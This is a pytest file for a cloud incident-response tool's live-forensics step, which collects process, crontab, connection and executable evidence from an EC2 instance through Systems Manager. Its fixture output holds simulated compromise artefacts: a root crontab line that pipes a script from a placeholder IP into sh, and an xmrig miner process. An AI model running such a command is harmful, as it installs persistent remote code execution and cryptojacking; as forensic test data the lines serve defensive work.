"""The live-forensics step: when Systems Manager lists the instance Online, fixed AWS-RunShellScript commands
collect processes, crontabs, connections and recently changed executables; each output is an evidence file with its
SHA-256; every call is audited; an instance SSM does not list (or lists offline) is skipped with the reason.

EC2, IAM, STS and the state store are moto's server and the real plan/execute path. moto implements neither
DescribeInstanceInformation nor real command output, so the SSM client answers through botocore's Stubber, which
checks each request and response against the service model (and fails on any call not queued: the dry run's
absence of SendCommand is checked by that too)."""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from botocore.stub import ANY, Stubber
from respond_env import REGION, Incident, respond

from minerwatch.alerting.state import StateStore
from minerwatch.aws.session import Aws
from minerwatch.console.views import evidence_files
from minerwatch.respond import journal as J
from minerwatch.respond.actions import FORENSICS, FORENSICS_REQUESTS, SSM_DOCUMENT
from minerwatch.respond.evidence import MANIFEST, sha256, verify_local
from minerwatch.respond.execute import Options, Response
from minerwatch.rules.shipped import shipped_rule

OUTPUT = {
    "processes": "  PID  PPID USER  STARTED  ELAPSED %CPU %MEM COMMAND\n"
    " 4242     1 nobody Mon Dec  7 01:02:03 2026 03:14:15 398.0 2.1 /tmp/.x/xmrig -o pool.minexmr.com:4444\n",
    "crontabs": "=== /var/spool/cron/crontabs/root\n*/5 * * * * curl -s http://203.0.113.9/x.sh | sh\n",
    "connections": "tcp ESTAB 0 0 10.20.1.5:40112 203.0.113.9:4444 users:((\"xmrig\",pid=4242,fd=9))\n",
    "executables": "2026-12-07+01:02:00 5242880 nobody:nogroup 755 /tmp/.x/xmrig\n"
    "b2f1c0ffee0000000000000000000000000000000000000000000000000000aa  /tmp/.x/xmrig\n",
}
META = {"RequestId": "ssm-request-1", "HTTPStatusCode": 200, "HTTPHeaders": {}, "RetryAttempts": 0}


def _cid(name: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, name))  # command ids are UUIDs (36 characters)


def _info(instance_id: str, ping: str = "Online") -> dict[str, Any]:
    return {
        "InstanceInformationList": [
            {"InstanceId": instance_id, "PingStatus": ping, "PlatformType": "Linux", "AgentVersion": "3.3.40.0"}
        ],
        "ResponseMetadata": META,
    }


def _describe(stub: Stubber, incident: Incident, answer: dict[str, Any]) -> None:
    params = {"Filters": [{"Key": "InstanceIds", "Values": [incident.instance_id]}]}
    stub.add_response("describe_instance_information", answer, params)


@pytest.fixture
def ssm(incident: Incident) -> Iterator[tuple[Response, Stubber]]:
    store = StateStore(incident.state)
    alert = store.get_alert(incident.alert_id)
    rule = shipped_rule(alert["rule_id"])
    assert rule is not None
    aws = Aws(region=REGION, actor="ir-oncall")
    client = aws.session.client("ssm", region_name=REGION)
    aws._clients[("ssm", REGION)] = client  # the one client the response uses for SSM: answered by the Stubber
    options = Options(evidence_root=str(incident.evidence), actor="ir-oncall", ssm_deadline=60.0)
    with Stubber(client) as stub:
        yield Response(store, alert, rule, aws, options), stub
    store.close()


def _send(stub: Stubber, incident: Incident, n: int) -> None:
    name, _, commands = FORENSICS[n]
    stub.add_response(
        "send_command",
        {"Command": {"CommandId": _cid(name), "Status": "Pending"}, "ResponseMetadata": META},
        {
            "InstanceIds": [incident.instance_id],
            "DocumentName": SSM_DOCUMENT,
            "Comment": ANY,
            "Parameters": {"commands": list(commands), "executionTimeout": ["600"]},
        },
    )


def _invocation(stub: Stubber, incident: Incident, name: str, status: str, stdout: str = "") -> None:
    stub.add_response(
        "get_command_invocation",
        {
            "CommandId": _cid(name),
            "InstanceId": incident.instance_id,
            "DocumentName": SSM_DOCUMENT,
            "PluginName": "aws:runShellScript",
            "ResponseCode": 0 if status == "Success" else -1,
            "ExecutionEndDateTime": datetime(2026, 12, 7, 4, 0, tzinfo=UTC).isoformat(),
            "Status": status,
            "StatusDetails": status,
            "StandardOutputContent": stdout,
            "StandardErrorContent": "",
            "ResponseMetadata": META,
        },
        {"CommandId": _cid(name), "InstanceId": incident.instance_id},
    )


def test_live_forensics_dry_run_then_execute(incident: Incident, ssm: tuple[Response, Stubber]) -> None:
    response, stub = ssm
    _describe(stub, incident, _info(incident.instance_id))
    plan = response.plan()
    stub.assert_no_pending_responses()  # the dry run asked SSM once and sent nothing (nothing else was queued)
    step = plan.step("live-forensics")
    assert step is not None and step.kind == "automated" and step.requires_approval is None
    ids = [s.id for s in plan.automated()]
    assert ids.index("evidence") < ids.index("live-forensics") < ids.index("isolate")
    assert [c.operation for c in step.calls] == ["SendCommand"] * 4
    assert [c.operation for c in step.checks] == ["GetCommandInvocation"] * 4
    rendered = plan.render()
    assert "CALL   ssm:SendCommand" in rendered and '"DocumentName":"AWS-RunShellScript"' in rendered
    # The scripts are fixed strings: nothing from the finding (its title names the instance) gets in.
    title = response.alert["fields"]["title"]
    for c in step.calls:
        assert all(title not in cmd and incident.instance_id not in cmd for cmd in c.params["Parameters"]["commands"])

    _describe(stub, incident, _info(incident.instance_id))  # the plan of the run
    _describe(stub, incident, _info(incident.instance_id))  # read again right before the step
    for n in range(len(FORENSICS)):
        _send(stub, incident, n)
    # First poll: the process list is still running; the next poll finds it done.
    _invocation(stub, incident, "processes", "InProgress")
    for name in ("crontabs", "connections", "executables"):
        _invocation(stub, incident, name, "Success", OUTPUT[name])
    _invocation(stub, incident, "processes", "Success", OUTPUT["processes"])
    _, reports = response.execute({"live-forensics"})
    stub.assert_no_pending_responses()
    assert [(r.id, r.status) for r in reports] == [("live-forensics", J.DONE)], reports

    folder = incident.evidence / incident.alert_id
    recorded = J.Journal(response.store, incident.alert_id).detail("live-forensics")["files"]
    for name, file, commands in FORENSICS:
        data = (folder / file).read_bytes()
        doc = json.loads(data)
        assert doc["stdout"] == OUTPUT[name] and doc["stdout_sha256"] == sha256(OUTPUT[name].encode())
        assert doc["commands"] == list(commands) and doc["command_id"] == _cid(name) and doc["status"] == "Success"
        assert recorded[file]["sha256"] == sha256(data) and recorded[file]["uri"].endswith(file)

    log = response.store.audit_log(incident.alert_id)
    sends = [e for e in log if e["action"] == "ssm:SendCommand"]
    assert len(sends) == 4 and all(e["result"]["ok"] and e["aws_request_id"] == "ssm-request-1" for e in sends)
    assert sends[0]["request"]["params"]["Parameters"]["commands"] == list(FORENSICS[0][2])
    polls = [e for e in log if e["action"] == "ssm:GetCommandInvocation"]
    assert len(polls) == 5 and min(e["seq"] for e in polls) > max(e["seq"] for e in sends)
    assert [e["result"]["status"] for e in log if e["action"] == "step:live-forensics"] == [J.DONE]


def _manifest(incident: Incident) -> dict[str, dict[str, Any]]:
    doc = json.loads((incident.evidence / incident.alert_id / MANIFEST).read_text())
    return {f["name"]: f for f in doc["files"]}


def test_the_s3_dry_run_lists_the_forensics_uploads(incident: Incident, ssm: tuple[Response, Stubber]) -> None:
    response, stub = ssm
    options = Options(evidence_root="s3://ir-evidence/cases", actor="ir-oncall", ssm_deadline=60.0)
    on_s3 = Response(response.store, response.alert, response.rule, response.aws, options)
    _describe(stub, incident, _info(incident.instance_id))
    step = on_s3.plan().step("live-forensics")
    assert step is not None and [c.operation for c in step.calls][:4] == ["SendCommand"] * 4
    puts = [c.params["Key"] for c in step.calls if c.operation == "PutObject"]
    names = [file for _, file, _ in FORENSICS] + [MANIFEST]
    assert puts == [f"cases/{incident.alert_id}/{name}" for name in names]


def test_the_manifest_lists_the_forensics_files_and_verification_checks_them(
    incident: Incident, ssm: tuple[Response, Stubber]
) -> None:
    response, stub = ssm
    _describe(stub, incident, _info(incident.instance_id))  # the plan of the run
    _describe(stub, incident, _info(incident.instance_id))  # read again right before live-forensics
    for n in range(len(FORENSICS)):
        _send(stub, incident, n)
    for name, _, _ in FORENSICS:
        _invocation(stub, incident, name, "Success", OUTPUT[name])
    _, reports = response.execute({"evidence", "live-forensics"})
    stub.assert_no_pending_responses()
    assert [(r.id, r.status) for r in reports] == [("evidence", J.DONE), ("live-forensics", J.DONE)], reports

    # The evidence step wrote the manifest first; live-forensics rewrote it over its files and the earlier ones.
    folder = incident.evidence / incident.alert_id
    listed = _manifest(incident)
    assert {n for n, f in listed.items() if f["step"] == "evidence"} >= {"instance.json", "alert.json"}
    for _, file, _ in FORENSICS:
        entry = listed[file]
        data = (folder / file).read_bytes()
        assert entry["sha256"] == sha256(data) and entry["bytes"] == len(data)
        assert entry["step"] == "live-forensics" and entry["requests"] == list(FORENSICS_REQUESTS)
        assert entry["uri"].endswith(f"/{incident.alert_id}/{file}") and entry["captured_at"]
    for name, entry in listed.items():
        assert entry["sha256"] == sha256((folder / name).read_bytes()), name
    assert verify_local(folder) == []

    # The console lists the same files with the same hashes and the manifest as written.
    shown = evidence_files(response.store, incident.alert_id)
    assert {f["name"]: (f["sha256"], f["step"]) for f in shown["files"]} == {
        n: (f["sha256"], f["step"]) for n, f in listed.items()
    }
    assert shown["manifest_sha256"] == sha256((folder / MANIFEST).read_bytes())

    # A changed forensics file is reported.
    (folder / "ssm-processes.json").write_text('{"stdout": ""}')
    assert verify_local(folder) == ["ssm-processes.json: SHA-256 does not match the manifest"]


def test_commands_not_finished_by_the_deadline_fail_the_step(incident: Incident,
                                                              ssm: tuple[Response, Stubber]) -> None:  # fmt: skip
    response, stub = ssm
    response.options.ssm_deadline = 0.0  # one poll, no wait
    _describe(stub, incident, _info(incident.instance_id))
    _describe(stub, incident, _info(incident.instance_id))
    for n in range(len(FORENSICS)):
        _send(stub, incident, n)
    for name, _, _ in FORENSICS:
        _invocation(stub, incident, name, "InProgress" if name == "executables" else "Success", OUTPUT[name])
    _, reports = response.execute({"live-forensics"})
    assert reports[0].status == J.FAILED and "executables (InProgress)" in reports[0].message
    # The finished outputs are kept; a re-run sends only the missing command.
    files = J.Journal(response.store, incident.alert_id).detail("live-forensics")["files"]
    assert sorted(files) == ["ssm-connections.json", "ssm-crontabs.json", "ssm-processes.json"]
    first = _manifest(incident)
    assert {n: f["sha256"] for n, f in first.items()} == {n: f["sha256"] for n, f in files.items()}
    stub.assert_no_pending_responses()
    response.options.ssm_deadline = 60.0
    _describe(stub, incident, _info(incident.instance_id))
    _describe(stub, incident, _info(incident.instance_id))
    _send(stub, incident, 3)
    _invocation(stub, incident, "executables", "Success", OUTPUT["executables"])
    _, reports = response.execute({"live-forensics"})
    stub.assert_no_pending_responses()
    assert reports[0].status == J.DONE and len(J.Journal(response.store, incident.alert_id).detail(
        "live-forensics")["files"]) == 4  # fmt: skip
    # The re-run's manifest keeps the entries of the first run as they were and adds the new file.
    again = _manifest(incident)
    assert sorted(again) == sorted(f for _, f, _ in FORENSICS)
    assert all(again[n] == entry for n, entry in first.items())
    assert verify_local(incident.evidence / incident.alert_id) == []


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        ("offline", "the SSM agent is ConnectionLost"),
        ("unlisted", "not managed by Systems Manager"),
    ],
)
def test_an_instance_ssm_cannot_reach_is_skipped(
    incident: Incident, ssm: tuple[Response, Stubber], answer: str, reason: str
) -> None:
    response, stub = ssm
    info = _info(incident.instance_id, "ConnectionLost") if answer == "offline" else {"InstanceInformationList": []}
    for _ in range(3):  # dry run, the run's plan, the step
        _describe(stub, incident, info)
    step = response.plan().step("live-forensics")
    assert step is not None and step.calls == [] and any(reason in n for n in step.notes)
    _, reports = response.execute({"live-forensics"})
    stub.assert_no_pending_responses()  # no command was sent
    assert reports[0].status == J.SKIPPED and reason in reports[0].message
    row = [e for e in response.store.audit_log(incident.alert_id) if e["action"] == "step:live-forensics"]
    assert row[0]["result"]["status"] == J.SKIPPED and reason in row[0]["result"]["message"]
    assert not (incident.evidence / incident.alert_id / FORENSICS[0][1]).exists()


def test_skipped_through_the_command_line_when_moto_lists_no_managed_instance(incident: Incident,
                                                                               tmp_path: Path) -> None:  # fmt: skip
    plan = json.loads(respond(incident, "--json").stdout)
    step = next(s for s in plan["steps"] if s["id"] == "live-forensics")
    assert step["calls"] == [] and "skipped: the instance is not managed" in step["notes"][0]
    res = respond(incident, "--execute", "--step", "live-forensics", "--forensics-wait", "5", "--json")
    assert res.exit_code == 0, res.output
    (result,) = json.loads(res.stdout)["results"]
    assert result["status"] == "skipped" and "not managed by Systems Manager" in result["message"]
